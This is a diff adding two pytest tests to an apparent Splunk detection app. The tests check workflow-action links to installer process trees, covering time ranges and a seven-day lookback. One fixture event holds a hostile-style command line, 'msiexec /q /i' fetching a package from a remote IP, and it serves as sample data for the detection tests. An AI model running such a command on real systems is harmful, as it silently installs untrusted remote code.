@@ -384,6 +384,34 @@ def test_the_workflow_action_on_a_risk_event_opens_its_tree(
         assert board.rows["trees"][0]["installer_tree_id"] == event["installer_tree_id"]
 
 
+def test_the_link_to_a_tree_of_one_process_is_a_time_range(app: App, built_app: Path) -> None:
+    """Its first and its last time are the same, and Splunk refuses a range that ends as it begins."""
+    conf = stanzas(built_app / "default" / "workflow_actions.conf")
+    keys = conf["installer_tree_of_finding"]
+    process = {"_time": data.NOW - 7200, "dest": "h", "process_id": 7, "process_name": "msiexec.exe"}
+    command = "msiexec /q /i http://203.0.113.7/a.msi"
+    events = {"Endpoint.Processes": [{**process, "process": command}]}
+    lowest = {"installer_risk_threshold": "0", "installer_notable_threshold": "0"}
+    high = data.RISK.replace("Score", "Score High")
+    for name in (data.RISK, high, data.SUMMARY):
+        (row,) = app.run(app.searches[name]["search"], events, "-4h", "now", lowest).rows
+        assert row["first_time"] == row["last_time"]
+        tokens = opened_by(keys["link.uri"], data.stash(row))
+        span = float(tokens["range__latest"]) - float(tokens["range__earliest"])
+        assert 1 <= span <= 2
+        board = Board(app, events, GRAPH, **tokens)
+        assert board.rows["trees"][0]["State"] == "Shown"
+
+
+def test_an_event_is_looked_up_seven_days_back(built_app: Path) -> None:
+    """As docs/dashboards.md says: an event is often looked at days later."""
+    conf = stanzas(built_app / "default" / "workflow_actions.conf")
+    for action in ("guid", "id"):
+        query = parse_qs(urlsplit(conf[f"installer_tree_of_process_{action}"]["link.uri"]).query)
+        assert query["form.range.earliest"] == ["-7d@d"]
+        assert query["form.range.latest"] == ["now"]
+
+
 def opened_by(uri: str, event: Row) -> dict[str, Any]:
     """The tokens that a workflow action gives; Splunk encodes the values."""
     filled_in = filled(re.sub(r"\$(\w+)\$", r"$\1|u$", uri), event)
